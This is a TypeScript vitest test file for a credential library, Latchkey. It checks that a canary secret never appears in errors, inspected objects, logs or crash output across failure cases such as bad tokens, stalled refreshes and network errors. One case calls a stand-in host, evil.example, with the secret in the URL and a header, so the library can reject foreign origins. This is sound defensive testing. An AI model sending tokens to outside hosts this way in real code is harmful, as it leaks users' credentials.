import { execFile } from 'node:child_process'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { inspect, promisify } from 'node:util'
import { afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import type { LatchkeyOptions } from '../../../src/index.js'
import { mustBeBuilt, root } from '../../package/pack.js'
import { canary, holdsCanary } from '../../secrecy/canary.js'
import { leaksIn } from '../../secrecy/detector.js'
import { stubPage } from '../../secrecy/page.js'
import {
  API,
  make,
  setAnything,
  signedIn,
  strategyOf,
  tokenFor,
  withToken,
} from '../../secrecy/strategies.js'
import { witness } from '../../secrecy/witness.js'
import { likeAxios } from '../fixtures/hand-written.js'
import { tally } from '../tally.js'

beforeAll(mustBeBuilt)
beforeEach(() => stubPage())
afterEach(() => vi.unstubAllGlobals())

const answering =
  (status: number, body = canary) =>
  async () =>
    new Response(body, { status })
type Act = (name: string) => Promise<[Awaited<ReturnType<typeof signedIn>>, () => Promise<unknown>]>

const withCredential =
  (
    options: Partial<LatchkeyOptions>,
    call: (latchkey: Awaited<ReturnType<typeof signedIn>>) => Promise<unknown>,
  ): Act =>
  async (name) => {
    const latchkey = await signedIn(name, { refreshTimeoutSeconds: 0.1, ...options })
    return [latchkey, () => call(latchkey)]
  }

/** What can go wrong with a credential in hand; what a page alone can do is tried in browsers. */
const failures: Record<string, Act> = {
  'a token that is none': async (name) => {
    const latchkey = make(strategyOf(name))
    return [latchkey, () => setAnything(latchkey, { ...tokenFor(name), access_token: `${canary}\n` })]
  },
  'nothing to renew with': withCredential({}, (latchkey) => latchkey.refresh()),
  'a refresh that is answered by words': withCredential(
    { refresh: async () => new Response(`${canary} ${canary}`).json() },
    (latchkey) => latchkey.refresh(),
  ),
  'a refresh that does not end': withCredential({ refresh: () => new Promise(() => {}) }, (latchkey) =>
    latchkey.refresh(),
  ),
  'a foreign origin': withCredential({ onForeignOrigin: 'reject' }, (latchkey) =>
    latchkey.fetch(`https://evil.example/${canary}`, { headers: { 'X-Own': canary } }),
  ),
  'a refused request that can’t be renewed': withCredential(
    { fetch: answering(401), refresh: async () => JSON.parse(canary) },
    (latchkey) => latchkey.fetch(`${API}/me`, { method: 'POST', body: canary }),
  ),
  'a network that fails': withCredential(
    { fetch: async () => Promise.reject(new TypeError('Failed to fetch')) },
    (latchkey) => latchkey.fetch(`${API}/me`),
  ),
  'an instance that was disposed of': withCredential({}, async (latchkey) => {
    latchkey.dispose()
    return latchkey.fetch(`${API}/${canary}`)
  }),
}

describe.for(withToken)('with the strategy %s', (name) => {
  test.for(Object.entries(failures))(
    'util.inspect, logs, clones and properties hold no secret after: %s',
    { timeout: 60_000 },
    async ([, begin], context) => {
      const attacked = tally(context, 'secrets')
      const { error, ...rest } = await witness(...(await begin(name)))
      expect(error).toBeInstanceOf(Error)
      const wrong = Object.entries({ error, ...rest }).filter(([where, value]) => {
        const leaked = leaksIn(value).length > 0
        attacked({ leaked, nativeWouldLeak: where === 'error' && leaksIn(likeAxios(canary)).length > 0 })
        return leaked
      })
      expect(wrong.map(([where]) => where)).toEqual([])
    },
  )
})

const run = promisify(execFile)
const built = pathToFileURL(join(root, 'dist/esm/index.js')).href
const crash = join(root, 'test/attacks/fixtures/crash.mjs')

test.for(['thrown', 'rejected', 'logged', 'malformed', 'on the wrong network'])(
  'what a process writes of an error has no secret: %s',
  async (how, context) => {
    const attacked = tally(context, 'secrets')
    const ended = run(process.execPath, [crash, built, canary, how]).catch(
      (error: { stdout: string; stderr: string }) => error,
    )
    const { stdout, stderr } = await ended
    attacked({
      leaked: holdsCanary(stdout + stderr),
      nativeWouldLeak: holdsCanary(inspect(likeAxios(canary))),
    })
    expect(stderr).toMatch(/LatchkeyError|TypeError/)
    expect(holdsCanary(stdout + stderr)).toBe(false)
  },
)
